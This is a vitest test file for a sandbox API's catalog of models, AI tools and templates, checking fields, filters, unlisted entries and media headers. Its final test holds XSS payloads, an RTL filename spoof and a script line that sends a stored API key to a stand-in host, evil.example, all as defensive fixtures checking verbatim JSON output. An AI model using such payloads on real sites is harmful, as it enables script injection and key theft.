import { describe, expect, it } from 'vitest';
import { expectError, useSandbox, type Harness } from './harness';

// api-notes §1 (categories), api-notes §2 (Model, Version, typicalPrice, Param definition, AI tool, Template),
// api-notes §4 (GET /models, /ai-tools, /ai-tools/{slug}, /templates, /templates/{slug}) and product-notes §4 (catalog
// coverage, media served from the same origin with the true Content-Type and CORS headers).

const h = useSandbox();

const CATEGORIES: Array<[string, string]> = [
  ['image', 'default'],
  ['image', 'edit-image'],
  ['image', 'image-svg'],
  ['video', 'text-ref'],
  ['video', 'motion-control'],
  ['video', 'first-last-frame'],
  ['video', 'audio-lipsync'],
  ['video', 'extend-video'],
  ['video', 'video-edit'],
  ['audio', 'text-to-speech'],
  ['audio', 'voice-clone'],
  ['audio', 'sound-effect'],
  ['audio', 'music'],
];

const MODEL_FIELDS = [
  'id',
  'name',
  'type',
  'subType',
  'description',
  'brand',
  'promptRequired',
  'promptMaxLength',
  'params',
  'versions',
  'tags',
];
const TOOL_FIELDS = [
  'slug',
  'name',
  'mediaType',
  'summary',
  'subType',
  'coverUrl',
  'tags',
  'params',
  'typicalPrice',
];
const TEMPLATE_FIELDS = [
  'slug',
  'name',
  'mediaType',
  'subType',
  'summary',
  'coverUrl',
  'tags',
  'params',
  'official',
  'typicalPrice',
];
const INTERNAL_FIELDS = [
  'pricing',
  'public',
  'enabled',
  'output',
  'fixedParams',
  'modelId',
  'versionId',
  'markup',
  'status',
  'active',
  'optIn',
  'creator',
];
const PRICE_UNITS = ['image', 'second', 'frame', '1k_chars', 'call'];
const PARAM_TYPES = [
  'enum',
  'long_text',
  'text',
  'aspect_ratio',
  'resolution',
  'image',
  'image_url',
  'image_urls',
  'video_url',
  'audio_url',
  'first_frame',
  'last_frame',
  'mask_url',
  'voice',
];

// Unlisted entries of the fixture (sandbox/src/core/catalog/ai-tools.ts and templates.ts).
const UNLISTED_TOOLS = {
  inactive: 'retro-vhs',
  'not opted in': 'sky-replace',
  'disabled model': 'dream-clip',
};
const UNLISTED_TEMPLATES = {
  draft: 'autumn-leaves-draft',
  pending: 'cyber-samurai',
  rejected: 'celebrity-lookalike',
  inactive: 'holiday-card-2023',
  'disabled model': 'dream-trailer',
};

async function allModels(hh: Harness): Promise<any[]> {
  const out: any[] = [];
  for (const [type, subtype] of CATEGORIES) {
    const r = await hh.api('GET', `/models?type=${type}&subtype=${subtype}`);
    expect(r.status, `${type}/${subtype}`).toBe(200);
    out.push(...r.body.models);
  }
  return out;
}

async function allTools(hh: Harness): Promise<any[]> {
  const r = await hh.api('GET', '/ai-tools');
  expect(r.status).toBe(200);
  return r.body.aiTools;
}

async function allTemplates(hh: Harness): Promise<any[]> {
  const r = await hh.api('GET', '/templates');
  expect(r.status).toBe(200);
  return r.body.templates;
}

function allParams(models: any[], tools: any[], templates: any[]): any[] {
  return [...models, ...tools, ...templates].flatMap((x) => x.params);
}

function expectTypicalPrice(tp: any, where: string) {
  expect(tp, where).toBeTypeOf('object');
  expect(tp, where).not.toBeNull();
  for (const k of Object.keys(tp)) expect(['typicalCredits', 'unit', 'note'], `${where} ${k}`).toContain(k);
  expect(typeof tp.typicalCredits, where).toBe('number');
  expect(tp.typicalCredits, where).toBeGreaterThanOrEqual(0);
  expect(PRICE_UNITS, where).toContain(tp.unit);
  if ('note' in tp) expect(typeof tp.note, where).toBe('string');
}

function expectParamDef(p: any, where: string) {
  expect(typeof p.id, where).toBe('string');
  expect(p.id.length, where).toBeGreaterThan(0);
  expect(typeof p.type, `${where} ${p.id}`).toBe('string');
  expect(typeof p.required, `${where} ${p.id}.required`).toBe('boolean');
  if ('displayName' in p) expect(typeof p.displayName).toBe('string');
  if ('options' in p) {
    expect(Array.isArray(p.options), `${where} ${p.id}.options`).toBe(true);
    for (const o of p.options) {
      if (typeof o !== 'string') {
        expect(o, `${where} ${p.id} option`).toHaveProperty('value');
        if ('label' in o) expect(typeof o.label).toBe('string');
        if ('previewUrl' in o) expect(typeof o.previewUrl).toBe('string');
      }
    }
  }
  if ('enumValues' in p) {
    expect(Array.isArray(p.enumValues)).toBe(true);
    for (const v of p.enumValues) expect(typeof v).toBe('string');
  }
  if ('maxLength' in p) expect(typeof p.maxLength).toBe('number');
  if ('constraints' in p) expect(typeof p.constraints).toBe('object');
  for (const f of INTERNAL_FIELDS) expect(p, `${where} ${p.id} has ${f}`).not.toHaveProperty(f);
}

/** What the first bytes say the file is. */
function sniff(b: Uint8Array): string {
  const ascii = (from: number, to: number) => Buffer.from(b.subarray(from, to)).toString('latin1');
  if (b[0] === 0x89 && ascii(1, 4) === 'PNG') return 'image/png';
  if (b[0] === 0xff && b[1] === 0xd8 && b[2] === 0xff) return 'image/jpeg';
  if (ascii(0, 4) === 'GIF8') return 'image/gif';
  if (ascii(0, 4) === 'RIFF' && ascii(8, 12) === 'WEBP') return 'image/webp';
  if (ascii(0, 4) === 'RIFF' && ascii(8, 12) === 'WAVE') return 'audio/wav';
  if (ascii(4, 8) === 'ftyp') return 'video/mp4';
  if (b[0] === 0x1a && b[1] === 0x45 && b[2] === 0xdf && b[3] === 0xa3) return 'video/webm';
  if (ascii(0, 4) === 'OggS') return 'audio/ogg';
  if (ascii(0, 3) === 'ID3' || (b[0] === 0xff && (b[1]! & 0xe0) === 0xe0)) return 'audio/mpeg';
  if (/^\s*(<\?xml|<svg)/.test(ascii(0, 64))) return 'image/svg+xml';
  return 'unknown';
}

interface Fetched {
  url: string;
  status: number;
  contentType: string;
  sniffed: string;
  size: number;
  acao: string | null;
}

async function fetchMedia(url: string): Promise<Fetched> {
  const r = await fetch(url, { headers: { Origin: 'http://localhost:5173' } });
  const bytes = new Uint8Array(await r.arrayBuffer());
  return {
    url,
    status: r.status,
    contentType: (r.headers.get('content-type') ?? '').split(';')[0]!.trim().toLowerCase(),
    sniffed: sniff(bytes),
    size: bytes.length,
    acao: r.headers.get('access-control-allow-origin'),
  };
}

async function fetchAll(urls: string[], concurrency = 6): Promise<Fetched[]> {
  const out: Fetched[] = [];
  const queue = [...urls];
  await Promise.all(
    Array.from({ length: concurrency }, async () => {
      for (let u = queue.shift(); u !== undefined; u = queue.shift()) out.push(await fetchMedia(u));
    }),
  );
  return out;
}

function normalizeCategory(c: any): string {
  if (typeof c === 'string') return c;
  return `${c.type}/${c.subType ?? c.subtype}`;
}

describe('GET /models', () => {
  it('needs both type and subtype: missing or invalid pairs get 400 with the 13 validCategories', async () => {
    const expected = CATEGORIES.map(([t, s]) => `${t}/${s}`).sort();
    for (const q of [
      '',
      '?type=image',
      '?subtype=default',
      '?type=image&subtype=music',
      '?type=audio&subtype=default',
      '?type=text&subtype=default',
      '?type=image&subtype=',
      '?type=IMAGE&subtype=default',
    ]) {
      const r = await h.api('GET', `/models${q}`);
      expectError(r, 400, undefined, 'invalid_request_error');
      expect(Array.isArray(r.body.error.validCategories), q).toBe(true);
      expect(r.body.error.validCategories.map(normalizeCategory).sort(), q).toEqual(expected);
    }
  });

  it('every one of the 13 categories lists models of that category; image/default and video/text-ref have 3 or more', async () => {
    for (const [type, subtype] of CATEGORIES) {
      const r = await h.api('GET', `/models?type=${type}&subtype=${subtype}`);
      expect(r.status, `${type}/${subtype}`).toBe(200);
      expect(Object.keys(r.body)).toEqual(['models']);
      expect(r.body.models.length, `${type}/${subtype}`).toBeGreaterThan(0);
      for (const m of r.body.models) {
        expect(m.type, m.id).toBe(type);
        expect(m.subType, m.id).toBe(subtype);
      }
      if (`${type}/${subtype}` === 'image/default' || `${type}/${subtype}` === 'video/text-ref') {
        expect(r.body.models.length, `${type}/${subtype}`).toBeGreaterThanOrEqual(3);
      }
    }
  });

  it('every model has the spec fields, and no internal ones', async () => {
    const models = await allModels(h);
    const ids = models.map((m) => m.id);
    expect(new Set(ids).size).toBe(ids.length);
    for (const m of models) {
      for (const f of MODEL_FIELDS) expect(m, `${m.id} lacks ${f}`).toHaveProperty(f);
      for (const k of Object.keys(m)) expect(MODEL_FIELDS, `${m.id} has extra field ${k}`).toContain(k);
      for (const f of INTERNAL_FIELDS) expect(m, `${m.id} has ${f}`).not.toHaveProperty(f);
      expect(typeof m.id).toBe('string');
      expect(typeof m.name).toBe('string');
      expect(m.name.length).toBeGreaterThan(0);
      expect(typeof m.description).toBe('string');
      expect(typeof m.promptRequired).toBe('boolean');
      expect(Number.isInteger(m.promptMaxLength), m.id).toBe(true);
      expect(m.promptMaxLength).toBeGreaterThan(0);
      expect(m.promptMaxLength, `${m.id}: prompt is at most 10,000 characters`).toBeLessThanOrEqual(10_000);
      expect(Object.keys(m.brand).sort(), m.id).toEqual(['id', 'logo', 'name']);
      expect(typeof m.brand.id).toBe('string');
      expect(typeof m.brand.name).toBe('string');
      expect(typeof m.brand.logo).toBe('string');
      expect(Array.isArray(m.tags)).toBe(true);
      for (const t of m.tags) expect(typeof t).toBe('string');
      expect(Array.isArray(m.params)).toBe(true);
      for (const p of m.params) expectParamDef(p, m.id);
      const paramIds = m.params.map((p: any) => p.id);
      expect(new Set(paramIds).size, `${m.id} param ids unique`).toBe(paramIds.length);
      expect(m.versions.length, m.id).toBeGreaterThan(0);
      const vids = m.versions.map((v: any) => v.id);
      expect(new Set(vids).size, `${m.id} version ids unique`).toBe(vids.length);
      for (const v of m.versions) {
        expect(Object.keys(v).sort(), `${m.id} version ${v.id}`).toEqual(['id', 'name', 'typicalPrice']);
        expect(typeof v.id).toBe('string');
        expect(typeof v.name).toBe('string');
        expectTypicalPrice(v.typicalPrice, `${m.id}/${v.id}`);
      }
    }
  });

  it('lists neither the non-public nor the disabled model', async () => {
    const ids = (await allModels(h)).map((m) => m.id);
    // Fixture: lumen-canvas-labs is public:false, halcyon-dream-legacy is enabled:false.
    expect(ids).not.toContain('lumen-canvas-labs');
    expect(ids).not.toContain('halcyon-dream-legacy');
  });

  it('covers every typicalPrice unit and every named param type', async () => {
    const models = await allModels(h);
    const units = new Set(models.flatMap((m) => m.versions.map((v: any) => v.typicalPrice.unit)));
    for (const u of PRICE_UNITS) expect([...units], `unit ${u}`).toContain(u);
    const types = new Set(allParams(models, await allTools(h), await allTemplates(h)).map((p) => p.type));
    for (const t of PARAM_TYPES) expect([...types], `param type ${t}`).toContain(t);
  });

  it('has options as plain strings and as {value,label}, voice options with previewUrl, enumValues, a dotted id', async () => {
    const models = await allModels(h);
    const params = allParams(models, await allTools(h), await allTemplates(h));
    const options = params.flatMap((p) => p.options ?? []);
    expect(options.some((o) => typeof o === 'string')).toBe(true);
    expect(
      options.some((o) => typeof o === 'object' && o !== null && 'value' in o && typeof o.label === 'string'),
    ).toBe(true);
    const voiceOptions = params.filter((p) => p.type === 'voice').flatMap((p) => p.options ?? []);
    expect(voiceOptions.some((o) => typeof o === 'object' && typeof o.previewUrl === 'string')).toBe(true);
    expect(params.some((p) => Array.isArray(p.enumValues) && p.enumValues.length > 0)).toBe(true);
    expect(params.some((p) => p.id.includes('.'))).toBe(true);
  });

  it('has a model with a lower promptMaxLength and a model with several versions', async () => {
    const models = await allModels(h);
    expect(models.some((m) => m.promptMaxLength < 10_000)).toBe(true);
    expect(models.some((m) => m.versions.length >= 2)).toBe(true);
  });

  it('GET /models needs a key', async () => {
    const r = await h.api('GET', '/models?type=image&subtype=default', { key: null });
    expectError(r, 401, 'missing_token', 'authentication_error');
  });
});

describe('catalog media (brand logos, covers, voice previews)', () => {
  it('are absolute URLs on the sandbox origin that GET with a matching image/video/audio Content-Type and CORS', async () => {
    const models = await allModels(h);
    const tools = await allTools(h);
    const templates = await allTemplates(h);
    const params = allParams(models, tools, templates);
    const logos = [...new Set(models.map((m) => m.brand.logo as string))];
    const previews = [
      ...new Set(
        params
          .filter((p) => p.type === 'voice')
          .flatMap((p) => p.options ?? [])
          .filter((o: any) => typeof o === 'object' && o.previewUrl)
          .map((o: any) => o.previewUrl as string),
      ),
    ];
    const covers = [...new Set([...tools, ...templates].map((x) => x.coverUrl as string))];
    expect(logos.length).toBeGreaterThan(0);
    expect(previews.length).toBeGreaterThan(0);
    expect(covers.length).toBe(tools.length + templates.length);

    for (const url of [...logos, ...previews, ...covers]) {
      expect(typeof url).toBe('string');
      const u = new URL(url); // throws for a relative URL
      expect(u.origin, url).toBe(h.origin);
    }

    const fetched = await fetchAll([...logos, ...previews, ...covers]);
    const byUrl = new Map(fetched.map((f) => [f.url, f]));
    for (const f of fetched) {
      expect(f.status, f.url).toBe(200);
      expect(f.size, f.url).toBeGreaterThan(0);
      expect(f.contentType, f.url).toMatch(/^(image|video|audio)\//);
      expect(f.contentType, `${f.url}: the Content-Type must match the bytes`).toBe(f.sniffed);
      expect(f.acao, `${f.url}: Access-Control-Allow-Origin`).toBe('*');
    }
    for (const u of logos) expect(byUrl.get(u)!.contentType, u).toMatch(/^image\//);
    for (const u of previews) expect(byUrl.get(u)!.contentType, u).toMatch(/^audio\//);
    for (const u of covers) expect(byUrl.get(u)!.contentType, u).toMatch(/^(image|video)\//);
    // Templates have video covers too.
    const templateCoverTypes = templates.map((t) => byUrl.get(t.coverUrl)!.contentType);
    expect(templateCoverTypes.some((t) => t.startsWith('video/'))).toBe(true);
    expect(templateCoverTypes.some((t) => t.startsWith('image/'))).toBe(true);
  }, 90_000);

  it('a missing media path is a 404, not a crash', async () => {
    const r = await fetch(`${h.origin}/cdn/catalog/brands/does-not-exist.png`);
    expect(r.status).toBe(404);
    await r.arrayBuffer();
  });
});

describe('AI tools', () => {
  it('GET /ai-tools lists tools of both media types with the spec fields and no internal ones', async () => {
    const r = await h.api('GET', '/ai-tools');
    expect(r.status).toBe(200);
    expect(Object.keys(r.body)).toEqual(['aiTools']);
    const tools = r.body.aiTools as any[];
    expect(tools.length).toBeGreaterThan(0);
    expect(new Set(tools.map((t) => t.mediaType))).toEqual(new Set(['image', 'video']));
    const slugs = tools.map((t) => t.slug);
    expect(new Set(slugs).size).toBe(slugs.length);
    for (const t of tools) {
      for (const f of TOOL_FIELDS) expect(t, `${t.slug} lacks ${f}`).toHaveProperty(f);
      for (const k of Object.keys(t)) expect(TOOL_FIELDS, `${t.slug} has extra field ${k}`).toContain(k);
      for (const f of INTERNAL_FIELDS) expect(t, `${t.slug} has ${f}`).not.toHaveProperty(f);
      expect(typeof t.slug).toBe('string');
      expect(typeof t.name).toBe('string');
      expect(typeof t.summary).toBe('string');
      expect(typeof t.subType).toBe('string');
      expect(typeof t.coverUrl).toBe('string');
      expect(Array.isArray(t.tags)).toBe(true);
      for (const p of t.params) expectParamDef(p, t.slug);
      if (t.typicalPrice !== null) expectTypicalPrice(t.typicalPrice, t.slug);
    }
  });

  it('a background-removal tool and an upscaler exist', async () => {
    const tools = await allTools(h);
    const text = (t: any) => [t.slug, t.name, t.subType, ...t.tags].join(' ').toLowerCase();
    expect(tools.some((t) => t.mediaType === 'image' && /background|cutout/.test(text(t)))).toBe(true);
    expect(tools.some((t) => t.mediaType === 'image' && /upscal/.test(text(t)))).toBe(true);
  });

  it('?type=image and ?type=video filter; any other type is 400 invalid_type', async () => {
    const all = await allTools(h);
    const images = await h.api('GET', '/ai-tools?type=image');
    const videos = await h.api('GET', '/ai-tools?type=video');
    expect(images.status).toBe(200);
    expect(videos.status).toBe(200);
    expect(images.body.aiTools.length).toBeGreaterThan(0);
    expect(videos.body.aiTools.length).toBeGreaterThan(0);
    for (const t of images.body.aiTools) expect(t.mediaType).toBe('image');
    for (const t of videos.body.aiTools) expect(t.mediaType).toBe('video');
    expect([...images.body.aiTools, ...videos.body.aiTools].map((t: any) => t.slug).sort()).toEqual(
      all.map((t) => t.slug).sort(),
    );
    for (const bad of ['audio', 'IMAGE', 'images', 'all']) {
      expectError(await h.api('GET', `/ai-tools?type=${bad}`), 400, 'invalid_type', 'invalid_request_error');
    }
  });

  it('GET /ai-tools/{slug} returns each listed tool as listed', async () => {
    for (const t of await allTools(h)) {
      const r = await h.api('GET', `/ai-tools/${encodeURIComponent(t.slug)}`);
      expect(r.status, t.slug).toBe(200);
      expect(r.body, t.slug).toEqual(t);
    }
  });

  it('unknown, inactive, not-opted-in and disabled-model tools are 404 unknown_ai_tool and unlisted', async () => {
    const listed = (await allTools(h)).map((t) => t.slug);
    for (const [why, slug] of Object.entries({ unknown: 'no-such-tool', ...UNLISTED_TOOLS })) {
      expect(listed, why).not.toContain(slug);
      const r = await h.api('GET', `/ai-tools/${slug}`);
      expectError(r, 404, 'unknown_ai_tool', 'invalid_request_error');
    }
    for (const type of ['image', 'video']) {
      const r = await h.api('GET', `/ai-tools?type=${type}`);
      for (const slug of Object.values(UNLISTED_TOOLS)) {
        expect(r.body.aiTools.map((t: any) => t.slug)).not.toContain(slug);
      }
    }
  });
});

describe('templates', () => {
  it('GET /templates lists 8 or more, official and community, image and video, with the spec fields only', async () => {
    const r = await h.api('GET', '/templates');
    expect(r.status).toBe(200);
    expect(Object.keys(r.body)).toEqual(['templates']);
    const list = r.body.templates as any[];
    expect(list.length).toBeGreaterThanOrEqual(8);
    expect(new Set(list.map((t) => t.official))).toEqual(new Set([true, false]));
    expect(new Set(list.map((t) => t.mediaType))).toEqual(new Set(['image', 'video']));
    const slugs = list.map((t) => t.slug);
    expect(new Set(slugs).size).toBe(slugs.length);
    for (const t of list) {
      for (const f of TEMPLATE_FIELDS) expect(t, `${t.slug} lacks ${f}`).toHaveProperty(f);
      for (const k of Object.keys(t)) expect(TEMPLATE_FIELDS, `${t.slug} has extra field ${k}`).toContain(k);
      for (const f of INTERNAL_FIELDS) expect(t, `${t.slug} has ${f}`).not.toHaveProperty(f);
      expect(typeof t.official).toBe('boolean');
      expect(typeof t.coverUrl).toBe('string');
      for (const p of t.params) expectParamDef(p, t.slug);
      // api-notes §2: fixed params (the prompt among them) are absent.
      expect(
        t.params.map((p: any) => p.id),
        t.slug,
      ).not.toContain('prompt');
      if (t.typicalPrice !== null) expectTypicalPrice(t.typicalPrice, t.slug);
    }
  });

  it('?type filters; other values are 400 invalid_type', async () => {
    const all = await allTemplates(h);
    const images = await h.api('GET', '/templates?type=image');
    const videos = await h.api('GET', '/templates?type=video');
    expect(images.status).toBe(200);
    expect(videos.status).toBe(200);
    expect(images.body.templates.length).toBeGreaterThan(0);
    expect(videos.body.templates.length).toBeGreaterThan(0);
    for (const t of images.body.templates) expect(t.mediaType).toBe('image');
    for (const t of videos.body.templates) expect(t.mediaType).toBe('video');
    expect([...images.body.templates, ...videos.body.templates].map((t: any) => t.slug).sort()).toEqual(
      all.map((t) => t.slug).sort(),
    );
    // Filtering keeps gallery order.
    const order = all.map((t) => t.slug);
    const imgSlugs = images.body.templates.map((t: any) => t.slug);
    expect(imgSlugs).toEqual(order.filter((s) => imgSlugs.includes(s)));
    for (const bad of ['audio', 'Video', 'x']) {
      expectError(await h.api('GET', `/templates?type=${bad}`), 400, 'invalid_type', 'invalid_request_error');
    }
  });

  it('GET /templates/{slug} returns each listed template as listed', async () => {
    for (const t of await allTemplates(h)) {
      const r = await h.api('GET', `/templates/${encodeURIComponent(t.slug)}`);
      expect(r.status, t.slug).toBe(200);
      expect(r.body, t.slug).toEqual(t);
    }
  });

  it('unknown, draft, pending, rejected, inactive and disabled-model templates are 404 unknown_template and unlisted', async () => {
    const listed = (await allTemplates(h)).map((t) => t.slug);
    for (const [why, slug] of Object.entries({ unknown: 'no-such-template', ...UNLISTED_TEMPLATES })) {
      expect(listed, why).not.toContain(slug);
      const r = await h.api('GET', `/templates/${slug}`);
      expectError(r, 404, 'unknown_template', 'invalid_request_error');
    }
  });

  it('returns attack strings verbatim as JSON (HTML, script tags, very long, right-to-left)', async () => {
    const r = await h.api('GET', '/templates');
    expect(r.headers.get('content-type')).toMatch(/^application\/json/);
    const list = r.body.templates as any[];
    const bySlug = new Map(list.map((t) => [t.slug, t]));
    const strings = list.flatMap((t) => [
      t.name,
      t.summary,
      ...t.tags,
      ...t.params.flatMap((p: any) =>
        (p.options ?? []).map((o: any) => (typeof o === 'string' ? o : o.label)),
      ),
    ]);

    expect(bySlug.get('dreamy-portraits')?.name).toBe('Dreamy portraits <img src=x onerror=alert(1)>');
    expect(bySlug.get('instant-glow-up')?.name).toBe('Instant glow-up <script>alert("xss")</script>');
    expect(bySlug.get('instant-glow-up')?.summary).toContain(
      '<script>fetch("https://evil.example/steal?k="+localStorage.getItem("apiKey"))</script>',
    );
    expect(bySlug.get('endless-zoom')?.name).toBe(`Endless${'Zoom'.repeat(598)}!`);
    expect(bySlug.get('endless-zoom')?.summary.length).toBeGreaterThan(1000);
    expect(bySlug.get('endless-zoom')?.tags).toContain(`infinite${'-zoom'.repeat(60)}`);
    const rtl = bySlug.get('cinematic-portrait-rtl');
    expect(rtl?.name).toBe('بورتريه سينمائي · דיוקן קולנועי');
    expect(rtl?.summary).toContain('\u202Egpj.exe\u202C');
    expect(rtl?.tags).toContain('\u202Edesrever\u202C');
    const sticker = bySlug.get('sticker-sheet');
    expect(sticker?.tags).toEqual(
      expect.arrayContaining([
        '<b>bold</b>',
        '<a href="javascript:alert(1)">click me</a>',
        '"><svg onload=alert(1)>',
      ]),
    );
    expect(strings).toContain('<script>alert(3)</script>Anime');

    // The same strings through the detail endpoint.
    const detail = await h.api('GET', '/templates/instant-glow-up');
    expect(detail.status).toBe(200);
    expect(detail.body.name).toBe('Instant glow-up <script>alert("xss")</script>');
    // No entity escaping anywhere.
    expect(strings.some((s) => /&lt;|&gt;|&quot;|&#/.test(s))).toBe(false);
  });
});
